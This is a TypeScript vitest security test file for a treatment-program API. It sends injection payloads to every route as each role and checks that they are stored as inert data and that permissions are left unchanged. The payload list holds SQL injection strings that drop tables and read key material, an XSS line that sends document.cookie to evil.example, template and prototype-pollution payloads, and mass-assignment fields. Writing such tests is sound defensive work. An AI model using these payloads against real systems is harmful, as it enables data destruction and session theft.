import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { newId } from '../../src/platform/ids.ts';
import { mondayOf } from '../../src/schedule/index.ts';
import { type ApiDocument, bodyWith, documentOf, filled, type Route } from '../support/document.ts';
import { keptSignedIn } from '../support/guests.ts';
import { demoId, openProgram, PEOPLE, type Program } from '../support/program.ts';

/** What people type who want a program to run it. */
const WORDS = [
  `'; drop table guard.participant; --`,
  `' or '1'='1' union select key_wrapped::text from guard.participant_key --`,
  `$$; set role postgres; select pg_sleep(20); $$`,
  `<script>fetch('//evil.example/'+document.cookie)</script>`,
  `"><img src=x onerror=alert(1)><svg/onload=alert(2)>`,
  `javascript:alert(1)//\${7*7}{{constructor.constructor('return process')()}}`,
];
/** All of them in two mouthfuls, for the many fields there are. */
const MOUTHFULS = [WORDS.slice(0, 3).join(' '), WORDS.slice(3).join(' ')];
/** An id nobody was ever given: where it turns up in a row, somebody chose what they may not choose. */
const CHOSEN = 'c0ffee00-dead-4bad-9bad-c0ffeec0ffee';
const LONGEST_MS = 5000;

let program: Program;
let api: ApiDocument;
let week: string;
let ids: Readonly<Record<string, string>>;
let cookies: Readonly<Record<string, string | undefined>> = {};
/** Signing out is among what is tried: it is asked for before each route. */
let everybody: () => Promise<typeof cookies>;

beforeAll(async () => {
  program = await openProgram();
  everybody = keptSignedIn<string>(program, {
    nobody: undefined,
    coordinator: PEOPLE.rosa,
    counselor: PEOPLE.dana,
    privacy: PEOPLE.kofi,
    participant: PEOPLE.karen,
  });
  api = await documentOf(program);
  week = mondayOf(program.today);
  const dana = await program.signIn(PEOPLE.dana);
  const begun = await program.send(`/api/intake/${demoId('inquiry', 'lantern-55')}/assessment`, {
    method: 'POST',
    cookie: dana,
    json: {},
  });
  ids = {
    assessment: (await begun.json()).assessment,
    inquiry: demoId('inquiry', 'harbor-41'),
    participant: PEOPLE.karen.id,
    decision: demoId('decision', 'R-1042'),
  };
});
afterAll(() => program.drop());

const inHole = (name: string): string => (name === 'week' ? week : (ids[name] ?? newId()));

async function give(route: Route, asker: string, path: string, json: unknown) {
  const startedMs = performance.now();
  const cookie = cookies[asker];
  const answer = await program.send(path, {
    method: route.method,
    version: 1,
    ...(cookie === undefined ? {} : { cookie }),
    ...(route.method === 'GET' || json === undefined ? {} : { json }),
  });
  const type = answer.headers.get('content-type') ?? '';
  const words = type.includes('event-stream') ? '' : await answer.text();
  if (type.includes('event-stream')) await answer.body?.cancel();
  const told = `${asker} ${route.method} ${path}: ${answer.status} ${words.slice(0, 500)}`;
  expect(answer.status, told).toBeLessThan(500);
  expect(performance.now() - startedMs, told).toBeLessThan(LONGEST_MS);
  // Whatever comes back with their words in it is data: no browser reads it as a page.
  expect(type, told).not.toMatch(/html|javascript|svg|xml/);
  expect(answer.headers.get('x-content-type-options'), told).toBe('nosniff');
  if (answer.status >= 400) expect(type, told).toContain('application/problem+json');
  return { status: answer.status, words };
}

/** The tables there are, and what in them says who may do what: changed by no words. */
const standing = () =>
  program.look('privacy', PEOPLE.kofi.id, async (db) => {
    const read = async (query: ReturnType<typeof sql>) => (await query.execute(db)).rows;
    return {
      tables:
        await read(sql`select n.nspname || '.' || c.relname as name, c.relkind, c.relrowsecurity, c.relforcerowsecurity
        from pg_catalog.pg_class c join pg_catalog.pg_namespace n on n.oid = c.relnamespace
        where n.nspname not in ('pg_catalog', 'information_schema') and n.nspname not like 'pg_temp%'
          and c.relname not like 'j%' order by 1`),
      policies: await read(
        sql`select schemaname, tablename, policyname, qual, with_check from pg_catalog.pg_policies order by 1, 2, 3`,
      ),
      permissions: await read(
        sql`select role, relation, category, verb, purpose from guard.permission order by 1, 2, 3, 4, 5`,
      ),
      staff: await read(sql`select staff_id, role, display_name, left_on from guard.staff order by 1`),
    };
  });

describe('words that want to be run', () => {
  test('are words: in every field, address and question of every route, as everybody', async () => {
    const before = await standing();
    for (const route of api.routes) {
      cookies = await everybody();
      const questions = (route.operation.parameters ?? []).filter((each) => each.in === 'query');
      for (const asker of Object.keys(cookies)) {
        for (const words of MOUTHFULS) {
          const json = route.body && bodyWith(words, route.body, api.schemas, PEOPLE.karen.id);
          const query = questions.map(({ name }) => `${name}=${encodeURIComponent(words)}`).join('&');
          const path = filled(route.path, inHole);
          await give(route, asker, query === '' ? path : `${path}?${query}`, json);
          if (!route.path.includes('{')) continue;
          await give(
            route,
            asker,
            filled(route.path, () => words),
            json,
          );
        }
      }
    }
    expect(await standing()).toEqual(before);
  }, 900_000);

  test.each(WORDS)('come back as they were: %s', async (words) => {
    cookies = await everybody();
    const send = async (asker: string, method: string, path: string, json?: unknown) => {
      const cookie = cookies[asker];
      const answer = await program.send(path, {
        method,
        json,
        ...(cookie === undefined ? {} : { cookie }),
      });
      expect(answer.status, path).toBeLessThan(300);
      expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
      return answer.json();
    };
    const asked = await send('participant', 'POST', '/api/my/requests', { kind: 'complaint', words });
    expect(asked.requests[0].words).toBe(words);
    expect((await send('participant', 'GET', '/api/my/requests')).requests[0].words).toBe(words);
    const theirs = await send('privacy', 'GET', '/api/guard/cases');
    expect(JSON.stringify(theirs.cases)).toContain(JSON.stringify(words).slice(1, -1));
    const signed = await send('participant', 'POST', '/api/my/sharing', {
      kind: 'specific',
      language: 'en',
      categories: ['schedule'],
      recipient: { kind: 'organisation', name: words },
      purposes: ['treatment'],
      expiry: { event: 'end-of-treatment' },
      signature: words,
      agreed: true,
    });
    expect(signed.consent.recipient.name).toBe(words);
    const read = await send(
      'counselor',
      'GET',
      `/api/people/${PEOPLE.karen.id}/sharing/${signed.consent.id}`,
    );
    expect(JSON.stringify(read)).toContain(JSON.stringify(words).slice(1, -1));
    const sent = await send('nobody', 'POST', '/api/public/ask', {
      name: words.slice(0, 60),
      contact: { channel: 'text', value: '813-555-0190', hours: ['evening'], ifSomeoneElse: 'say-nothing' },
      language: 'en',
    });
    const inbox = await send('coordinator', 'GET', '/api/intake');
    expect(inbox.inquiries.find((it: { reference: string }) => it.reference === sent.reference).called).toBe(
      words.slice(0, 60),
    );
  });
});

describe('fields nobody asked for', () => {
  /** What a row is made of. */
  const MORE = {
    org: CHOSEN,
    org_id: CHOSEN,
    orgId: CHOSEN,
    id: CHOSEN,
    participant: CHOSEN,
    participant_id: CHOSEN,
    participantId: CHOSEN,
    actor: CHOSEN,
    actor_id: CHOSEN,
    staff_id: CHOSEN,
    owner: CHOSEN,
    owner_id: CHOSEN,
    asked_by: CHOSEN,
    by_id: CHOSEN,
    decided_by: CHOSEN,
    signed_by: CHOSEN,
    published_by: CHOSEN,
    recipient_id: CHOSEN,
    token_hash: CHOSEN,
    signed_name: CHOSEN,
    licence: CHOSEN,
    role: 'privacy',
    is_private: false,
    is_agreed: true,
    needs_second: false,
    needs_guardian: false,
    version: 999_999,
    state: 'signed',
    approved_at: '2020-01-01T00:00:00Z',
  };

  test('are in no row afterwards, whoever sends them with whatever command', async () => {
    const before = await standing();
    for (const route of api.routes.filter(({ method, body }) => method !== 'GET' && body !== undefined)) {
      cookies = await everybody();
      for (const asker of Object.keys(cookies)) {
        const path = filled(route.path, inHole);
        const good = bodyWith('Words', route.body ?? {}, api.schemas, PEOPLE.karen.id);
        await give(route, asker, path, { ...MORE, ...(good as object) });
        await give(route, asker, path, JSON.parse(`{"__proto__":{"role":"privacy"},"constructor":{}}`));
        await give(route, asker, `${path}?role=privacy&org=${CHOSEN}&participant=${CHOSEN}`, good);
      }
    }
    expect(await standing()).toEqual(before);
    expect(({} as { role?: string }).role).toBeUndefined();
    const tables = await program.look('privacy', PEOPLE.kofi.id, async (db) => {
      const { rows } = await sql<{ name: string }>`
        select n.nspname || '.' || c.relname as name from pg_catalog.pg_class c
        join pg_catalog.pg_namespace n on n.oid = c.relnamespace
        where c.relkind = 'r' and n.nspname in ('guard', 'bridge', 'fit', 'schedule', 'treat', 'platform')
          and has_table_privilege(current_user, c.oid, 'select')`.execute(db);
      return rows.map(({ name }) => name);
    });
    expect(tables.length).toBeGreaterThan(40);
    // Read as everybody who could have been made to see it.
    const readers = [
      ['privacy', PEOPLE.kofi.id],
      ['coordinator', PEOPLE.rosa.id],
      ['counselor', PEOPLE.dana.id],
      ['participant', PEOPLE.karen.id],
      ['privacy', CHOSEN],
      ['participant', CHOSEN],
    ] as const;
    for (const [role, id] of readers) {
      const found = await program.look(role, id, async (db) => {
        const holding: string[] = [];
        for (const name of tables) {
          const { rows } = await sql<{ n: number }>`
            select count(*)::int as n from ${sql.table(name)} t where t::text like ${`%${CHOSEN}%`}`.execute(
            db,
          );
          if (rows[0]?.n !== 0) holding.push(name);
        }
        return holding;
      });
      expect(found, `${role} ${id}`).toEqual([]);
    }
  }, 900_000);
});
